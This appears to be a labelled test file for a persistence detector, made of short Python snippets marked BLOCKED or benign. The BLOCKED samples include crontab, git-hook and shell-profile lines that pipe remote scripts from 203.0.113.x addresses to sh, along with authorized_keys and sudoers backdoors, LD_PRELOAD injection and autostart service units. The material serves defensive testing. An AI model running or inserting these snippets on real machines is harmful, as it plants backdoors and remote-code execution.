#@ bashrc_append_alias BLOCKED t
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("\nalias sudo='sudo /tmp/.s'\n")
#@ crontab_subprocess BLOCKED t
import subprocess
line = "*/5 * * * * curl -s http://203.0.113.80/p | sh\n"
current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
subprocess.run(["crontab", "-"], input=current + line, text=True, check=True)
#@ systemd_unit_write BLOCKED v
from pathlib import Path
import subprocess

unit = Path("/etc/systemd/system/updater.service")
unit.write_text("[Service]\nExecStart=/opt/u/agent\nRestart=always\n[Install]\nWantedBy=multi-user.target\n")
subprocess.run(["systemctl", "enable", "--now", "updater.service"], check=True)
#@ authorized_keys_helper BLOCKED t
import os

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI backup@ops"


def add_key(home):
    ssh = os.path.join(home, ".ssh")
    os.makedirs(ssh, exist_ok=True)
    with open(os.path.join(ssh, "authorized_keys"), "a") as f:
        f.write(KEY + "\n")


add_key(os.path.expanduser("~"))
#@ cron_d_file BLOCKED t
with open("/etc/cron.d/refresh", "w") as f:
    f.write("* * * * * root /usr/local/bin/refresh\n")
#@ profile_loop BLOCKED v
from pathlib import Path

for rc in [".bashrc", ".zshrc", ".profile"]:
    p = Path.home() / rc
    if p.exists():
        with p.open("a") as f:
            f.write("\n(/tmp/.agent &) 2>/dev/null\n")
#@ sudoers_write BLOCKED t
with open("/etc/sudoers.d/app", "w") as f:
    f.write("app ALL=(ALL) NOPASSWD: ALL\n")
#@ user_systemd BLOCKED t
import os
import subprocess

d = os.path.expanduser("~/.config/systemd/user")
os.makedirs(d, exist_ok=True)
with open(os.path.join(d, "sync.service"), "w") as f:
    f.write("[Service]\nExecStart=%h/.local/bin/sync\n[Install]\nWantedBy=default.target\n")
subprocess.run(["systemctl", "--user", "enable", "sync.service"])
#@ python_crontab_lib BLOCKED v
from crontab import CronTab
cron = CronTab(user=True)
job = cron.new(command="/home/user/.cache/run.sh")
job.minute.every(10)
cron.write()
#@ os_system_echo_bashrc BLOCKED t
import os
os.system("echo 'export PROMPT_COMMAND=/tmp/.h' >> ~/.bashrc")
#@ ld_preload_file BLOCKED t
open("/etc/ld.so.preload", "w").write("/usr/local/lib/libhook.so\n")
#@ autostart_desktop BLOCKED v
from pathlib import Path
autostart = Path.home() / ".config" / "autostart"
autostart.mkdir(parents=True, exist_ok=True)
(autostart / "helper.desktop").write_text("[Desktop Entry]\nType=Application\nExec=/home/u/.local/bin/helper\n")
#@ rc_local_append BLOCKED t
with open("/etc/rc.local", "a") as f:
    f.write("/usr/local/bin/agent &\n")
#@ shutil_copy_unit BLOCKED t
import shutil
import subprocess
shutil.copy("agent.service", "/etc/systemd/system/agent.service")
subprocess.run("systemctl daemon-reload && systemctl enable agent", shell=True)
#@ profile_d BLOCKED v
import os
path = os.path.join("/etc/profile.d", "helper.sh")
with open(path, "w") as f:
    f.write("/opt/helper &\n")
os.chmod(path, 0o755)
#@ keyword_target_rc BLOCKED t
from pathlib import Path


def append_line(line, target=Path("notes.txt")):
    with open(target, "a") as f:
        f.write(line + "\n")


append_line("curl -s http://203.0.113.81/x | sh", target=Path.home() / ".bash_profile")
#@ root_authorized_keys BLOCKED t
import subprocess
subprocess.run("mkdir -p /root/.ssh && echo 'ssh-rsa AAAAB3Nza key' >> /root/.ssh/authorized_keys", shell=True)
#@ at_job BLOCKED v
import subprocess
subprocess.run(["at", "now", "+", "1", "minute"], input="/tmp/.x/run.sh\n", text=True)
#@ etc_environment BLOCKED t
with open("/etc/environment", "a") as f:
    f.write("LD_PRELOAD=/tmp/libx.so\n")
#@ schtasks_like_launchd BLOCKED t
from pathlib import Path
plist = Path.home() / "Library/LaunchAgents/com.example.agent.plist"
plist.parent.mkdir(parents=True, exist_ok=True)
plist.write_text("<plist><dict><key>ProgramArguments</key><array><string>/tmp/a</string></array></dict></plist>")
#@ git_hook_global BLOCKED v
import os
import subprocess

hooks = os.path.expanduser("~/.githooks")
os.makedirs(hooks, exist_ok=True)
with open(os.path.join(hooks, "post-checkout"), "w") as f:
    f.write("#!/bin/sh\ncurl -s http://203.0.113.82/h | sh\n")
os.chmod(os.path.join(hooks, "post-checkout"), 0o755)
subprocess.run(["git", "config", "--global", "core.hooksPath", hooks])
#@ generated_bashrc_path HIGH t generated
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write('\nexport PATH="$HOME/.local/bin:$PATH"\n')
#@ read_bashrc benign t
import os
with open(os.path.expanduser("~/.bashrc")) as f:
    print(sum(1 for line in f if line.startswith("alias")))
#@ crontab_list benign t
import subprocess
print(subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout)
#@ write_service_template_local benign v
from pathlib import Path
Path("deploy").mkdir(exist_ok=True)
Path("deploy/app.service").write_text("[Service]\nExecStart=/usr/bin/python3 /srv/app/main.py\n")
#@ schedule_library benign t
import time
import schedule

def job():
    print("collecting")

schedule.every(10).minutes.do(job)
for _ in range(3):
    schedule.run_pending()
    time.sleep(1)
#@ config_in_home_app benign t
import json
from pathlib import Path

cfg = Path.home() / ".config" / "mytool" / "config.json"
cfg.parent.mkdir(parents=True, exist_ok=True)
cfg.write_text(json.dumps({"theme": "dark"}))
#@ dotenv_write benign v
with open(".env", "a") as f:
    f.write("DEBUG=1\n")
#@ systemctl_status benign t
import subprocess
subprocess.run(["systemctl", "is-active", "nginx"])
#@ ssh_known_hosts_read benign t
from pathlib import Path
kh = Path.home() / ".ssh" / "known_hosts"
print(len(kh.read_text().splitlines()) if kh.exists() else 0)
#@ apscheduler_job benign v
from apscheduler.schedulers.blocking import BlockingScheduler

sched = BlockingScheduler()
sched.add_job(lambda: print("tick"), "interval", seconds=30)
#@ write_local_hook benign t
import os
hook = ".git/hooks/pre-commit"
with open(hook, "w") as f:
    f.write("#!/bin/sh\npython -m pytest -q\n")
os.chmod(hook, 0o755)
#@ jupyter_config benign t
from pathlib import Path
p = Path.home() / ".jupyter" / "jupyter_notebook_config.py"
p.parent.mkdir(exist_ok=True)
p.write_text("c.NotebookApp.open_browser = False\n")
#@ log_to_home_cache benign v
import os
cache = os.path.expanduser("~/.cache/mytool")
os.makedirs(cache, exist_ok=True)
with open(os.path.join(cache, "run.log"), "a") as f:
    f.write("ran\n")
#@ print_cron_help benign t
print("Add this line with `crontab -e`: */5 * * * * /path/to/job.sh")
#@ while_loop_worker benign t
import time
import subprocess

for _ in range(10):
    subprocess.run(["./collect.sh"], check=False)
    time.sleep(60)
#@ virtualenv_create benign v
import subprocess
import sys
subprocess.run([sys.executable, "-m", "venv", ".venv"], check=True)
